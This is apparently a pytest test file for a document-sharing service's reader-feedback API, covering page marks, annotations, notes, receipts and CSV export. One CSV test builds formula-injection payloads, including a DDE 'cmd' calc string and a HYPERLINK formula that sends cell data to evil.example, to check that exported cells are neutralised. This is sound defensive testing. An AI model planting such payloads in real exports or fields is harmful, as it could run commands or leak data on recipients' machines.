"""Feedback of readers, for the owner: page marks, annotations, notes and receipts."""

import csv
import io
import re
from typing import Any

import pytest
from werkzeug.test import TestResponse

from docshare.contract.plans import Plan
from docshare.server.services.accounts import accounts
from tests.api.route_table import UNKNOWN_UUID
from tests.support.engines.rows import update_file_row
from tests.support.owner.browser import put_settings
from tests.support.people.anonymous_files import share_anonymously
from tests.support.people.cast import Person, World
from tests.support.people.feedback_client import ALL_FEEDBACK_SETTINGS, RECT, FeedbackClient
from tests.support.people.known_readers import insert_invite

ROUTES = ("page-marks", "annotations", "feedback")
CSV_ROUTES = ("page-marks", "annotations")
NOW = "2026-09-21T14:13:20.000Z"


pytestmark = pytest.mark.file_settings(**ALL_FEEDBACK_SETTINGS)


def get_feedback(who: Person, made: dict[str, Any] | str, what: str, query: str = "") -> TestResponse:
    name = made if isinstance(made, str) else made["uuid"]
    return who.get(f"/api/v1/files/{name}/{what}{query}")


def parse_csv(answer: TestResponse) -> list[list[str]]:
    assert (answer.status_code, answer.headers["Content-Type"]) == (200, "text/csv; charset=utf-8")
    return list(csv.reader(io.StringIO(answer.data.decode(), newline=""), strict=True))


def list_pseudonyms(world: World) -> list[str]:
    return [name for (name,) in world.rt.db.fetch_all("SELECT pseudonym FROM viewers ORDER BY id")]


# Access


@pytest.mark.parametrize("what", ROUTES)
def test_a_foreign_file_is_403_and_an_unknown_one_404(world: World, uploaded_file: dict[str, Any], what: str) -> None:
    """Feedback routes have the same statuses as the readership routes."""
    for who in (world.mal, world.fay):
        answer = get_feedback(who, uploaded_file, what)
        assert (answer.status_code, answer.get_json()["code"]) == (403, "forbidden")
        assert answer.headers["WWW-Authenticate"] == "Bearer"
    for name in (UNKNOWN_UUID, "aB3dE5fG7hJ9", "report"):
        for who in (world.pia, world.fay):
            assert get_feedback(who, name, what).status_code == 404


@pytest.mark.parametrize("what", ROUTES)
def test_unclaimed_and_trashed_files_are_404(world: World, uploaded_file: dict[str, Any], what: str) -> None:
    assert get_feedback(world.pia, share_anonymously(world).uuid, what).status_code == 404
    world.pia.delete(f"/api/v1/files/{uploaded_file['uuid']}")
    assert get_feedback(world.pia, uploaded_file, what).status_code == 404
    assert get_feedback(world.mal, uploaded_file, what).status_code == 404


@pytest.mark.parametrize("what", ROUTES)
@pytest.mark.parametrize("plan", [Plan.FREE, Plan.BASIC])
def test_feedback_below_pro_is_403_plan_required(
    world: World, uploaded_file: dict[str, Any], what: str, plan: Plan
) -> None:
    accounts.set_tier(world.rt, world.pia.email, plan)
    for query in ("", "?format=csv", "?format=xml"):
        answer = get_feedback(world.pia, uploaded_file, what, query)
        assert (answer.status_code, answer.get_json()["code"]) == (403, "plan_required")
        assert "requires the pro plan" in answer.get_json()["detail"]
        assert answer.headers["WWW-Authenticate"] == "Bearer"


@pytest.mark.parametrize("what", ROUTES)
def test_the_path_accepts_a_uuid_in_any_case_and_a_short_id(
    world: World, uploaded_file: dict[str, Any], what: str
) -> None:
    update_file_row(world, uploaded_file["uuid"], slug="our-report")
    answers = [
        get_feedback(world.pia, name, what)
        for name in (uploaded_file["uuid"], uploaded_file["uuid"].upper(), uploaded_file["shortId"])
    ]
    assert [answer.status_code for answer in answers] == [200] * 3
    assert answers[0].data == answers[1].data == answers[2].data
    assert get_feedback(world.pia, "our-report", what).status_code == 404


# Page marks


def test_page_marks_are_listed_by_page_by_viewer_and_in_total(world: World, uploaded_file: dict[str, Any]) -> None:
    """``identity`` is the address of the invitee or a pseudonym such as ``Reader 7F3A``."""
    insert_invite(world, uploaded_file["uuid"], "zoe@example.com", "Zz3dE5fG7hJ9")
    ann, zoe = FeedbackClient(world, uploaded_file["shortId"]), FeedbackClient(world, "Zz3dE5fG7hJ9")
    (
        ann.mark_page(3, "pick"),
        ann.mark_page(1, "reject"),
        zoe.mark_page(3, "pick"),
        zoe.mark_page(1, "maybe"),
        ann.mark_page(2, "pick"),
    )
    ann.mark_page(2, None)
    answer = get_feedback(world.pia, uploaded_file, "page-marks")
    name = list_pseudonyms(world)[0]
    assert re.fullmatch("Reader [0-9A-F]{4}", name)
    assert answer.get_json() == {
        "pages": [
            {"page": 1, "pick": 0, "reject": 1, "maybe": 1},
            {"page": 3, "pick": 2, "reject": 0, "maybe": 0},
        ],
        "viewers": [
            {"identity": name, "marks": [{"page": 1, "mark": "reject"}, {"page": 3, "mark": "pick"}]},
            {"identity": "zoe@example.com", "marks": [{"page": 1, "mark": "maybe"}, {"page": 3, "mark": "pick"}]},
        ],
        "totals": {"pick": 2, "reject": 1, "maybe": 1},
    }
    assert list(answer.get_json()) == ["pages", "viewers", "totals"]
    assert parse_csv(get_feedback(world.pia, uploaded_file, "page-marks", "?format=csv")) == [
        ["page", "mark", "identity", "markedAt"],
        ["1", "reject", name, NOW],
        ["1", "maybe", "zoe@example.com", NOW],
        ["3", "pick", name, NOW],
        ["3", "pick", "zoe@example.com", NOW],
    ]


def test_a_file_without_feedback_has_empty_lists(world: World, uploaded_file: dict[str, Any]) -> None:
    assert get_feedback(world.pia, uploaded_file, "page-marks").get_json() == {
        "pages": [],
        "viewers": [],
        "totals": {"pick": 0, "reject": 0, "maybe": 0},
    }
    assert get_feedback(world.pia, uploaded_file, "annotations").get_json() == {"pages": []}
    assert get_feedback(world.pia, uploaded_file, "feedback").get_json() == {"notes": [], "receipts": []}
    for what in CSV_ROUTES:
        assert len(parse_csv(get_feedback(world.pia, uploaded_file, what, "?format=csv"))) == 1


def test_the_owner_gets_page_numbers_of_the_document(world: World, uploaded_file: dict[str, Any]) -> None:
    put_settings(world, uploaded_file, pageRange={"from": 2, "to": 3})
    ann = FeedbackClient(world, uploaded_file["shortId"])
    ann.mark_page(1, "pick"), ann.annotate(2), ann.leave_note(page=1)
    assert [row["page"] for row in get_feedback(world.pia, uploaded_file, "page-marks").get_json()["pages"]] == [2]
    assert [row["page"] for row in get_feedback(world.pia, uploaded_file, "annotations").get_json()["pages"]] == [3]
    assert [row["pageNumber"] for row in get_feedback(world.pia, uploaded_file, "feedback").get_json()["notes"]] == [2]


# Annotations


def test_annotations_are_listed_by_page(world: World, uploaded_file: dict[str, Any]) -> None:
    """Annotations of a page are listed oldest first."""
    ann, bob = FeedbackClient(world, uploaded_file["shortId"]), FeedbackClient(world, uploaded_file["shortId"])
    last, first, second = ann.annotate(3, "last"), ann.annotate(1, "first"), bob.annotate(1, 'two\nlines, "quoted"')
    names = list_pseudonyms(world)

    def row(sent: dict[str, Any], identity: str) -> dict[str, Any]:
        return {"uuid": sent["uuid"], "identity": identity, "rect": RECT, "note": sent["note"], "createdAt": NOW}

    assert get_feedback(world.pia, uploaded_file, "annotations").get_json() == {
        "pages": [
            {"page": 1, "annotations": [row(first, names[0]), row(second, names[1])]},
            {"page": 3, "annotations": [row(last, names[0])]},
        ]
    }
    place = ["0.1", "0.2", "0.3", "0.4"]
    assert parse_csv(get_feedback(world.pia, uploaded_file, "annotations", "?format=csv")) == [
        ["page", "uuid", "identity", "x", "y", "width", "height", "note", "createdAt"],
        ["1", first["uuid"], names[0], *place, "first", NOW],
        ["1", second["uuid"], names[1], *place, 'two\nlines, "quoted"', NOW],
        ["3", last["uuid"], names[0], *place, "last", NOW],
    ]


# CSV


@pytest.mark.parametrize("what", CSV_ROUTES)
@pytest.mark.parametrize("query", ["?format=", "?format=CSV", "?format=json", "?format=csv&format=csv"])
def test_any_other_format_is_400(world: World, uploaded_file: dict[str, Any], what: str, query: str) -> None:
    answer = get_feedback(world.pia, uploaded_file, what, query)
    assert (answer.status_code, answer.get_json()["code"]) == (400, "bad_request")


@pytest.mark.parametrize("what", CSV_ROUTES)
def test_a_csv_response_has_a_file_name_and_crlf_line_ends(
    world: World, uploaded_file: dict[str, Any], what: str
) -> None:
    answer = get_feedback(world.pia, uploaded_file["shortId"], what, "?format=csv")
    assert answer.headers["Content-Disposition"] == f'attachment; filename="{what}-{uploaded_file["shortId"]}.csv"'
    assert answer.data.endswith(b"\r\n")


FORMULA_STARTS = (*"=+-@＝＋－＠|'%", "\t=", " =", "\n@", ",=", ";=", '="', "==", "@-", '"=')
INVISIBLE_PREFIXES = ("\ufeff=", "\u200b＝", "\u200b\ufeff-")
FORMULA_ENDS = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("https://evil.example?"&A1)', "SUM(1,2)\r\n=2", "🙂")
PAYLOADS = [start + end for start in (*FORMULA_STARTS, *INVISIBLE_PREFIXES) for end in FORMULA_ENDS]
TRIGGERS = tuple("=+-@\t\r\n\0＝＋－＠")


def test_no_csv_cell_starts_a_formula_and_every_text_is_preserved(world: World, uploaded_file: dict[str, Any]) -> None:
    """No cell begins with a character that starts a formula in a spreadsheet; an RFC 4180 parser reads the texts."""
    assert len(PAYLOADS) == 115
    insert_invite(world, uploaded_file["uuid"], "=cmd@example.com", "Zz3dE5fG7hJ9")
    hand = FeedbackClient(world, "Zz3dE5fG7hJ9")
    for payload in PAYLOADS:
        hand.annotate(note=payload)
        world.clock.advance(seconds=2)
    hand.mark_page(1, "pick")
    rows = parse_csv(get_feedback(world.pia, uploaded_file, "annotations", "?format=csv"))[1:]
    stored = [payload.strip().replace("\r\n", "\n") for payload in PAYLOADS]
    assert [
        row[7].removeprefix("'") if row[7] != text else text for row, text in zip(rows, stored, strict=True)
    ] == stored
    marks = parse_csv(get_feedback(world.pia, uploaded_file, "page-marks", "?format=csv"))
    assert marks[1][2] == "'=cmd@example.com"
    cells = [cell for row in (*rows, *marks) for cell in row]
    assert not [cell for cell in cells if cell.lstrip("\ufeff\u200b ").startswith(TRIGGERS)]
    told = get_feedback(world.pia, uploaded_file, "annotations").get_json()["pages"][0]["annotations"]
    assert [row["note"] for row in told] == stored


# Notes and receipts


def test_notes_and_receipts_are_listed_oldest_first(world: World, uploaded_file: dict[str, Any]) -> None:
    insert_invite(world, uploaded_file["uuid"], "zoe@example.com", "Zz3dE5fG7hJ9")
    ann, zoe = FeedbackClient(world, uploaded_file["shortId"]), FeedbackClient(world, "Zz3dE5fG7hJ9")
    private, public = ann.leave_note("for you", page=2), zoe.leave_note("for all", "Zoe", public=True)
    zoe.send("POST", "receipt", {"name": "Zoe"})
    world.clock.advance(seconds=1)
    ann.send("POST", "receipt", {"name": "Ann Lee"})
    name = list_pseudonyms(world)[0]
    assert get_feedback(world.pia, uploaded_file, "feedback").get_json() == {
        "notes": [
            {
                "uuid": private["uuid"],
                "author": "Ann",
                "body": "for you",
                "pageNumber": 2,
                "public": False,
                "viewer": name,
                "createdAt": NOW,
            },
            {
                "uuid": public["uuid"],
                "author": "Zoe",
                "body": "for all",
                "public": True,
                "viewer": "zoe@example.com",
                "createdAt": NOW,
            },
        ],
        "receipts": [
            {"name": "Zoe", "viewer": "zoe@example.com", "confirmedAt": NOW, "contentVersion": 1},
            {"name": "Ann Lee", "viewer": name, "confirmedAt": "2026-09-21T14:13:21.000Z", "contentVersion": 1},
        ],
    }


def test_feedback_is_listed_after_the_feature_is_disabled(world: World, uploaded_file: dict[str, Any]) -> None:
    ann = FeedbackClient(world, uploaded_file["shortId"])
    ann.leave_note(), ann.mark_page(1, "pick"), ann.annotate()
    put_settings(world, uploaded_file, **dict.fromkeys(ALL_FEEDBACK_SETTINGS, False))
    assert len(get_feedback(world.pia, uploaded_file, "feedback").get_json()["notes"]) == 1
    assert get_feedback(world.pia, uploaded_file, "page-marks").get_json()["totals"]["pick"] == 1
    assert len(get_feedback(world.pia, uploaded_file, "annotations").get_json()["pages"]) == 1


def test_feedback_through_a_deleted_variant_is_kept_under_a_pseudonym(
    world: World, uploaded_file: dict[str, Any]
) -> None:
    """The label of the variant is not part of the feedback."""
    path = f"/api/v1/files/{uploaded_file['uuid']}/variants"
    variant = world.pia.post(path, json={"label": "Ada Lovelace"}).get_json()
    FeedbackClient(world, variant["shortId"]).mark_page(1, "pick")
    before = get_feedback(world.pia, uploaded_file, "page-marks").data
    assert world.pia.delete(f"{path}/{variant['uuid']}").status_code == 204
    after = get_feedback(world.pia, uploaded_file, "page-marks")
    assert after.data == before
    assert "Ada Lovelace" not in after.text


@pytest.mark.parametrize("what", ROUTES)
def test_a_response_takes_a_fixed_number_of_statements(
    world: World, uploaded_file: dict[str, Any], what: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    def count_statements() -> int:
        asked: list[str] = []
        execute = world.rt.db.engine.execute_sql
        with monkeypatch.context() as patch:
            patch.setattr(world.rt.db.engine, "execute_sql", lambda *args: (asked.append(args[0]), execute(*args))[1])
            assert get_feedback(world.pia, uploaded_file, what).status_code == 200
        return len(asked)

    few = count_statements()
    for _ in range(5):
        hand = FeedbackClient(world, uploaded_file["shortId"])
        hand.mark_page(1, "pick"), hand.annotate(), hand.leave_note(), hand.send("POST", "receipt", {"name": "X"})
    assert count_statements() == few <= 5
